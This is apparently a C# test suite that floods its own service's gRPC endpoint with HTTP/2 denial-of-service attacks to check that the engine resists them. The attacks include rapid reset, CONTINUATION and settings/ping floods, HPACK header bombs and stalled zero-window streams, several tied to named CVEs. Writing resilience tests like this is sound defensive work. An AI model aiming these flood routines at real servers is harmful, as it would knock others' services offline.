using System.Diagnostics;
using Decisioning.Simulation.Tests.Attack.Wire;
using Decisioning.Simulation.Tests.Load;
using Decisioning.Tests.Shared;

namespace Decisioning.Simulation.Tests.Attack.Attacks;

/// <summary>Frames that are allowed, one of them, and not a hundred thousand: the connection is cut, or they cost next to nothing.</summary>
internal static class FloodAttacks
{
    private const int Each = 100_000;
    private const int PerWrite = 100;

    // What an attacker's line of 30 Mbit/s carries; on one machine with the engine, more would measure who gets the processor.
    private const int PerSecond = 20_000;

    // Good calls until their answers come: half of what two cores answer.
    private const int CallsPerSecond = 5_000;
    private const string Track = "/decisioning.v1.Events/Track";
    private static readonly TimeSpan AnswerMax = TimeSpan.FromSeconds(10);

    public static IEnumerable<Attack> All =>
    [
        new("rapid reset (CVE-2023-44487)", (arena, tally) => FloodAsync(arena, tally, stream => [.. Head(arena, stream), .. Http2Frames.Of(Http2Frames.Reset, 0, stream, Http2Frames.Number(8))])),
        new("rapid reset without a credential", (arena, tally) => FloodAsync(
            arena, tally, stream => [.. Http2Frames.Of(Http2Frames.Headers, Http2Frames.EndHeaders, stream, Http2Frames.Call(Track, null)), .. Http2Frames.Of(Http2Frames.Reset, 0, stream, Http2Frames.Number(8))])),
        new("resets provoked by wrong frames (CVE-2025-8671)", (arena, tally) => FloodAsync(arena, tally, stream => [.. Head(arena, stream), .. Http2Frames.Of(Http2Frames.WindowUpdate, 0, stream, Http2Frames.Number(int.MaxValue))])),
        new("flood of settings", (arena, tally) => FloodAsync(arena, tally, _ => Http2Frames.Of(Http2Frames.Settings, 0, 0, Http2Frames.Setting(4, 65_535)))),
        new("flood of pings", (arena, tally) => FloodAsync(arena, tally, _ => Http2Frames.Of(Http2Frames.Ping, 0, 0, new byte[8]))),
        new("flood of settings and pings, answers not read", (arena, tally) => FloodAsync(arena, tally, _ => [.. Http2Frames.Of(Http2Frames.Settings, 0, 0, []), .. Http2Frames.Of(Http2Frames.Ping, 0, 0, new byte[8])], reads: false)),
        new("flood of priorities", (arena, tally) => FloodAsync(arena, tally, stream => Http2Frames.Of(Http2Frames.Priority, 0, stream, [0, 0, 0, 0, 1]))),
        new("flood of window updates", (arena, tally) => FloodAsync(arena, tally, _ => Http2Frames.Of(Http2Frames.WindowUpdate, 0, 0, Http2Frames.Number(1)))),
        new("flood of empty data", (arena, tally) => FloodAsync(arena, tally, _ => Http2Frames.Of(Http2Frames.Data, 0, 1, []), Head(arena, 1))),
        new("flood of continuations (CVE-2024-27316)", (arena, tally) => FloodAsync(
            arena, tally, number => Http2Frames.Of(Http2Frames.Continuation, 0, 1, Http2Frames.Literal($"x-{number}", "1")), Http2Frames.Of(Http2Frames.Headers, 0, 1, Http2Frames.Call(Track, null)))),
        new("flood of empty continuations", (arena, tally) => FloodAsync(
            arena, tally, _ => Http2Frames.Of(Http2Frames.Continuation, 0, 1, []), Http2Frames.Of(Http2Frames.Headers, 0, 1, Http2Frames.Call(Track, null)))),
        new("headers that inflate (HPACK bombs)", BombsAsync),
        new("answers that nobody takes", StalledAsync),
    ];

    private static byte[] Head(Arena arena, int stream) =>
        Http2Frames.Of(Http2Frames.Headers, Http2Frames.EndHeaders, stream, Http2Frames.Call(Track, arena.Key($"{Arena.Attacker}/track")));

    /// <summary>Sends frames until so many are sent, on a new connection whenever one is cut.</summary>
    private static async Task FloodAsync(Arena arena, Tally tally, Func<int, byte[]> make, byte[]? first = null, bool reads = true)
    {
        var (sent, began) = (0, Stopwatch.GetTimestamp());
        for (var most = arena.Options.Times(Each); sent < most;)
        {
            using var connection = await Http2Connection.OpenAsync(arena.Grpc, reads: reads);
            await connection.SendAsync(first ?? []);
            for (var stream = 1; sent < most; stream += 2 * PerWrite)
            {
                if (!await connection.SendAsync([.. Enumerable.Range(0, PerWrite).SelectMany(number => make(stream + (2 * number)))]).WaitAsync(AnswerMax).SafelyAsync())
                {
                    break;
                }

                sent += PerWrite;
                await Pause.AtPaceAsync(sent, PerSecond, began);
            }

            tally.Add("connection: " + await connection.CatchUpAsync(reads ? AnswerMax : TimeSpan.Zero));
        }

        tally.Add("frames sent", sent);
    }

    private static async Task BombsAsync(Arena arena, Tally tally)
    {
        // A header of 3 KB put into the table once, then named ten thousand times: 30 MB out of 13 KB.
        byte[] bomb = [.. Http2Frames.Call(Track, null), .. Http2Frames.Literal("x-bomb", new string('b', 3_000), isIndexed: true), .. Enumerable.Repeat((byte)(0x80 | 62), 10_000)];
        byte[] many = [.. Http2Frames.Call(Track, null), .. Enumerable.Range(0, 1_000).SelectMany(number => Http2Frames.Literal($"x-{number}", "1"))];
        byte[] large = [.. Http2Frames.Call(Track, null), .. Enumerable.Range(0, 10).SelectMany(number => Http2Frames.Literal($"x-{number}", new string('x', 5_000)))];
        for (var left = arena.Options.Times(2_000); left > 0; left--)
        {
            foreach (var block in (byte[][])[bomb, many, large])
            {
                using var connection = await Http2Connection.OpenAsync(arena.Grpc);
                await connection.SendAsync(Block(block));
                var end = await connection.EndAsync(AnswerMax);
                tally.Judge(end, end != "open" && end != "answered 200", () => "the engine took headers beyond its limits");
            }
        }
    }

    private static byte[] Block(byte[] block)
    {
        const int most = 16_000;
        var chunks = block.Chunk(most).ToList();
        return [.. chunks.SelectMany((chunk, at) => Http2Frames.Of(at == 0 ? Http2Frames.Headers : Http2Frames.Continuation, (byte)((at == 0 ? Http2Frames.EndStream : 0) | (at == chunks.Count - 1 ? Http2Frames.EndHeaders : 0)), 1, chunk))];
    }

    /// <summary>A window of no bytes: each answer waits in the engine. A hundred streams on each of many connections.</summary>
    private static async Task StalledAsync(Arena arena, Tally tally)
    {
        var connections = new List<Http2Connection>();
        var (sent, began) = (0, Stopwatch.GetTimestamp());
        try
        {
            var message = GrpcFrame.Of([]);
            for (var left = Math.Max(2, arena.Options.Times(100)); left > 0; left--)
            {
                var connection = await Http2Connection.OpenAsync(arena.Grpc);
                connections.Add(connection);
                await connection.SendAsync(Http2Frames.Of(Http2Frames.Settings, 0, 0, Http2Frames.Setting(4, 0)));
                for (var stream = 1; stream < 200; stream += 2)
                {
                    await connection.SendAsync(
                    [
                        .. Http2Frames.Of(Http2Frames.Headers, Http2Frames.EndHeaders, stream, Http2Frames.Call("/decisioning.v1.Strategies/Get", arena.Key($"{Arena.Attacker}/author"))),
                        .. Http2Frames.Of(Http2Frames.Data, Http2Frames.EndStream, stream, message),
                    ]);
                    sent++;
                }

                await Pause.AtPaceAsync(sent, CallsPerSecond, began);
            }

            await Task.WhenAll(connections.Select(connection => connection.ClosedAsync(arena.Options.Wait(TimeSpan.FromSeconds(30)))));
            connections.ForEach(connection => tally.Judge("connection: " + connection.State, arena.Options.IsQuick || connection.IsClosed, () => "answers that nobody took were kept for 30 s"));
        }
        finally
        {
            connections.ForEach(connection => connection.Dispose());
        }
    }

    // A connection whose other side does not read takes no more at some point.
    private static async Task<bool> SafelyAsync(this Task<bool> sending)
    {
        try
        {
            return await sending;
        }
        catch (TimeoutException)
        {
            return false;
        }
    }
}
